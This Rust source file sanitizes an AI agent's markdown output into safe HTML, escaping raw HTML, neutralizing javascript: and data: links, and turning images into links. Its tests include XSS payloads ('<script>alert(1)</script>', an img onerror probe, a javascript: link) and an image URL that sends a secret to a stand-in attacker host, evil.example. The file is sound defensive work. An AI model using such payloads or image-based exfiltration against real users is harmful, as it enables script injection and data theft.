//! The agent's text as HTML, with pulldown-cmark (CommonMark plus tables, strikethrough and task
//! lists). The text comes from a model, so it is untrusted: raw HTML is shown as text, never
//! interpreted; links with a script-capable scheme lose their target; and an image becomes a
//! link to it (its alt text), so nothing loads in a viewer's browser unless they click (an
//! image would tell its server who reads the session, and what the model put in its URL).

use pulldown_cmark::{html, CowStr, Event, LinkType, Options, Parser, Tag, TagEnd};

/// Renders markdown to HTML that is safe to put in the page.
pub fn to_html(markdown: &str) -> String {
    let options = Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TASKLISTS;
    let events = Parser::new_ext(markdown, options).map(|event| match event {
        // Raw HTML becomes text: pulldown-cmark escapes text when it writes it.
        Event::Html(raw) | Event::InlineHtml(raw) => Event::Text(raw),
        Event::Start(Tag::Link { link_type, dest_url, title, id }) => {
            Event::Start(Tag::Link { link_type, dest_url: safe_url(dest_url), title, id })
        }
        Event::Start(Tag::Image { dest_url, title, id, .. }) => {
            Event::Start(Tag::Link { link_type: LinkType::Inline, dest_url: safe_url(dest_url), title, id })
        }
        Event::End(TagEnd::Image) => Event::End(TagEnd::Link),
        other => other,
    });
    let mut out = String::with_capacity(markdown.len() * 3 / 2);
    html::push_html(&mut out, events);
    // Links open beside the live session instead of replacing it. Every `<a href="` in the
    // output is the writer's own (the model's raw HTML was escaped above).
    out.replace("<a href=\"", "<a target=\"_blank\" rel=\"noopener noreferrer\" href=\"")
}

/// Keeps http(s), mailto and relative URLs; anything else (`javascript:`, `data:`, …) becomes `#`.
fn safe_url(url: CowStr<'_>) -> CowStr<'_> {
    let lower = url.trim().to_ascii_lowercase();
    let scheme = lower.split_once(':').map(|(s, _)| s);
    let relative = scheme.is_none_or(|s| s.contains(['/', '?', '#']));
    if relative || matches!(scheme, Some("http" | "https" | "mailto")) {
        url
    } else {
        CowStr::Borrowed("#")
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn renders_paragraphs_code_and_tables() {
        let html = to_html("Hello **world**\n\n```rust\nfn main() {}\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n");
        assert!(html.contains("<strong>world</strong>"));
        assert!(html.contains("<pre><code class=\"language-rust\">fn main() {}\n</code></pre>"));
        assert!(html.contains("<table>"));
    }

    #[test]
    fn images_become_links_and_load_nothing() {
        let html = to_html("See ![the chart](https://evil.example/track.png?secret=abc) here");
        assert!(!html.contains("<img"), "{html}");
        assert!(html.contains(r#"href="https://evil.example/track.png?secret=abc">the chart</a>"#), "{html}");
        assert!(!to_html("![x](data:image/png;base64,AAAA)").contains("data:"));
    }

    #[test]
    fn raw_html_is_shown_as_text() {
        let html = to_html("<script>alert(1)</script>\n\nand <img src=x onerror=alert(1)> inline");
        assert!(!html.contains("<script"));
        assert!(!html.contains("<img"));
        assert!(html.contains("&lt;script&gt;"));
        assert!(html.contains("&lt;img src=x onerror=alert(1)&gt;"));
    }

    #[test]
    fn script_links_lose_their_target() {
        let html =
            to_html("[a](javascript:alert(1)) [b](https://example.com) [c](docs/x.md) ![i](data:image/png;base64,AA)");
        assert!(!html.contains("javascript:"));
        assert!(!html.contains("data:"));
        assert!(html.contains("<a target=\"_blank\" rel=\"noopener noreferrer\" href=\"https://example.com\">b</a>"));
        assert!(html.contains("href=\"docs/x.md\""));
        assert!(html.contains("href=\"#\""));
    }

    #[test]
    fn an_unfinished_stream_still_renders() {
        let html = to_html("Here is code:\n\n```sh\necho hi");
        assert!(html.contains("echo hi"));
    }
}
